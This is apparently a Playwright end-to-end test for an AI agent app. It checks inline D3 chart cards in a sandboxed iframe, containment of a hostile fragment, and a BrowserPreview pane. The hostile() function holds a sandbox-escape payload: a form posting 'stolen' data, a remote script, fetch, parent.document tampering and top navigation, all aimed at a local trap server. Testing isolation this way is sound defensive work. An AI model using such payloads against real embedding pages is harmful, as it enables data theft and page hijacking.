// Flow 8: with inline visualizations on, the model writes an HTML fragment into the
// session's visualization folder and names it in a ::visualize line; the card renders a
// D3 chart inside the sandboxed frame. A hostile fragment (fetch, parent.document, a form
// submit, a remote script, an image, a top navigation, all aimed at a local server this
// test runs) gets nothing through: the server sees no request and the app's page is
// untouched. Then the agent writes a page with an ES module and opens it with BrowserPreview:
// the preview pane shows it from the loopback preview server, and its error and missing
// image reach the model.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { ChatRequest } from '../fixtures/fakeProvider';
import { expect, test } from '../fixtures/test';
import { TrapServer } from '../fixtures/trapServer';

const CHART = `<div id="chart"></div>
<script>
const rows = [{ region: 'North', sales: 3 }, { region: 'South', sales: 7 }, { region: 'West', sales: 5 }];
const svg = d3.select('#chart').append('svg').attr('width', 320).attr('height', 120);
svg.selectAll('rect').data(rows).join('rect')
  .attr('x', (d, i) => i * 100).attr('y', (d) => 120 - d.sales * 15)
  .attr('width', 80).attr('height', (d) => d.sales * 15).attr('fill', 'steelblue');
</script>
`;

const PREVIEW_PAGE = `<!doctype html><html><head><title>Preview demo</title></head>
<body><h1 id="hello">Hello preview</h1><img src="missing.png" alt="">
<script type="module" src="app.js"></script></body></html>
`;
const PREVIEW_MODULE = `import { who } from './who.js';
document.getElementById('hello').dataset.who = who;
throw new Error('boom from the module');
`;

function hostile(origin: string): string {
  return `<p id="report">running</p>
<form id="f" action="${origin}/form" method="post"><input name="stolen" value="secret"></form>
<img src="${origin}/pixel.png" alt="">
<script src="${origin}/remote.js"></script>
<script>
(async () => {
  const out = [];
  try { await fetch('${origin}/fetch', { mode: 'no-cors' }); out.push('fetch: reached'); } catch (e) { out.push('fetch: blocked'); }
  try { parent.document.body.dataset.pwned = 'yes'; out.push('parent: reached'); } catch (e) { out.push('parent: blocked'); }
  try { top.location.href = '${origin}/top'; out.push('top: navigated'); } catch (e) { out.push('top: blocked'); }
  try { document.getElementById('f').submit(); out.push('form: submit called'); } catch (e) { out.push('form: blocked'); }
  out.push('remote script: ' + (window.remoteRan ? 'ran' : 'not run'));
  document.getElementById('report').textContent = out.join('; ');
})();
</script>
`;
}

/** The session's visualization folder, from the system prompt the model was sent. */
function vizFolder(req: ChatRequest): string {
  const m = /Visualization folder \(absolute path\): (.+)/.exec(req.systemText());
  if (!m) throw new Error(`no visualization folder in the system prompt: ${req.systemText().slice(0, 400)}`);
  return m[1]!.trim();
}

test('a D3 chart renders in the sandboxed card; a hostile fragment gets nothing out; BrowserPreview shows a workspace page', async ({ ui, root, workspace, provider, shot }) => {
  test.slow(); // three prompts and a preview in one app start
  const trap = new TrapServer();
  await trap.start();
  try {
    await ui.addProjectByPath(workspace.dir, workspace.name);

    // Settings → Agent → Inline visualizations: saved as soon as it is switched.
    const settings = await ui.openSettings();
    const toggle = settings.getByRole('switch', { name: 'Inline visualizations' });
    await expect(toggle).toHaveAttribute('aria-checked', 'false');
    await toggle.click();
    const saved = ui.page.getByRole('status').filter({ hasText: 'Inline visualizations saved.' });
    await expect(saved).toBeVisible();
    await saved.getByRole('button', { name: 'Dismiss' }).click(); // read: it would stay over the transcript's top corner
    await expect(saved).toHaveCount(0);
    await ui.closeSettings();
    await ui.newSession(workspace.name);

    let folder = '';
    provider.enqueue(
      (req) => {
        folder = vizFolder(req);
        return { toolCalls: [{ id: 'call_chart', name: 'Write', args: { path: `${folder}/chart.html`, content: CHART } }] };
      },
      () => ({ text: `Sales per region:\n\n::visualize${JSON.stringify({ path: `${folder}/chart.html`, title: 'Sales by region' })}\n\nSouth leads.` }),
    );
    await ui.send('Chart the sales per region');
    await expect(ui.assistantText().last()).toContainText('South leads.');
    await ui.waitIdle();

    // The fragment is in the session's folder under the data dir, written with no card.
    expect(folder.startsWith(path.join(root, 'data', 'visualizations') + path.sep)).toBe(true);
    expect(readFileSync(path.join(folder, 'chart.html'), 'utf8')).toBe(CHART);
    expect((await provider.waitForRequest(1)).toolResult('call_chart')).toContain('visualization check: ok (1 inline script compiled; element ids used: chart)');

    const card = ui.transcript.getByRole('figure', { name: 'Visualization: Sales by region' });
    const iframe = card.locator('iframe');
    await expect(iframe).toHaveAttribute('sandbox', 'allow-scripts');
    const chart = iframe.contentFrame();
    await expect(chart.locator('svg')).toHaveCount(1);
    await expect(chart.locator('svg rect')).toHaveCount(3);
    expect(await chart.locator('svg rect').evaluateAll((rs) => rs.map((r) => r.getAttribute('height')))).toEqual(['45', '105', '75']);
    await expect(card.getByRole('alert')).toHaveCount(0);
    // The frame fits its content (a 120 px chart and the page's padding), not 360 px.
    await expect.poll(async () => (await iframe.boundingBox())?.height ?? 0).toBeLessThan(200);
    expect((await iframe.boundingBox())?.height ?? 0).toBeGreaterThanOrEqual(120);
    await shot('chart');

    // The hostile fragment.
    provider.enqueue(
      { toolCalls: [{ id: 'call_evil', name: 'Write', args: { path: `${folder}/evil.html`, content: hostile(trap.origin) } }] },
      { text: `::visualize${JSON.stringify({ path: `${folder}/evil.html`, title: 'Escape attempt' })}` },
    );
    await ui.send('Now try to get out');
    await ui.waitIdle();
    // The model was warned by the static check (the Write itself lands).
    const warned = (await provider.waitForRequest(3)).toolResult('call_evil');
    expect(warned).toContain('<form> is blocked');
    expect(warned).toContain(`<script src="${trap.origin}/remote.js"> is blocked`);

    const evilCard = ui.transcript.getByRole('figure', { name: 'Visualization: Escape attempt' });
    const evil = evilCard.locator('iframe').contentFrame();
    const report = evil.locator('#report');
    await expect(report).toHaveText(
      'fetch: blocked; parent: blocked; top: blocked; form: submit called; remote script: not run',
    );
    // Give any late request a moment to arrive, then check the server and the page.
    await ui.page.waitForTimeout(1_000);
    await expect(report).toHaveText(/remote script: not run$/);
    expect(trap.requests).toEqual([]);
    expect(await ui.page.evaluate(() => document.body.dataset.pwned ?? null)).toBeNull();
    expect(new URL(ui.page.url()).port).not.toBe(new URL(trap.origin).port);
    await expect(ui.transcript.getByRole('figure', { name: 'Visualization: Sales by region' })).toBeVisible();
    await shot('hostile fragment contained');

    // Control: the server is reachable from the app's own page, so the empty log above
    // means the frame was stopped, not that nothing could have arrived.
    expect(await ui.page.evaluate(async (url) => (await fetch(url)).status, `${trap.origin}/control`)).toBe(200);
    expect(trap.requests).toEqual([{ method: 'GET', url: '/control' }]);

    // BrowserPreview: the agent writes a page and an ES module into the workspace, loads
    // the on-demand tool and opens the page's folder. The pane beside the transcript shows
    // it from the loopback preview server (not the app's origin), the module and its import
    // run, and the page's uncaught error and missing image come back to the model.
    workspace.write('site/who.js', "export const who = 'module';\n");
    const before = provider.requests.length;
    provider.enqueue(
      {
        toolCalls: [
          { id: 'call_page', name: 'Write', args: { path: 'site/index.html', content: PREVIEW_PAGE } },
          { id: 'call_module', name: 'Write', args: { path: 'site/app.js', content: PREVIEW_MODULE } },
        ],
      },
      { toolCalls: [{ id: 'call_load', name: 'ToolSearch', args: { query: 'select:BrowserPreview' } }] },
      { toolCalls: [{ id: 'call_preview', name: 'BrowserPreview', args: { path: 'site' } }] },
      { text: 'The page is open beside us.' },
    );
    await ui.send('Build a small page and show it to me');
    await ui.answer('Write', 'Allow for session');
    await expect(ui.assistantText().last()).toHaveText('The page is open beside us.');
    await ui.waitIdle();
    const pane = ui.page.getByRole('complementary', { name: 'Preview' });
    await expect(pane).toBeVisible();
    const frame = pane.locator('iframe');
    const src = (await frame.getAttribute('src')) ?? '';
    expect(src).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[0-9a-f]{32}\/site\/index\.html$/);
    expect(new URL(src).origin).not.toBe(new URL(ui.page.url()).origin);
    const page = frame.contentFrame();
    await expect(page.locator('#hello')).toHaveText('Hello preview');
    await expect(page.locator('#hello')).toHaveAttribute('data-who', 'module');
    await shot('browser preview');
    const opened = (await provider.waitForRequest(before + 3)).toolResult('call_preview');
    expect(opened).toContain('Opened site/index.html in the preview pane.');
    expect(opened).toContain('Title: Preview demo');
    expect(opened).toContain('Error: boom from the module (site/app.js:');
    expect(opened).toContain('missing.png');
    expect(opened).not.toContain(new URL(src).pathname.split('/')[1]!);
    // The address without its token is nothing.
    expect((await fetch(`${new URL(src).origin}/site/index.html`)).status).toBe(404);
    expect((await fetch(src)).status).toBe(200);
    // Close ends it.
    await pane.getByRole('button', { name: 'Close preview' }).click();
    await expect(pane).toHaveCount(0);
  } finally {
    await trap.close();
  }
});
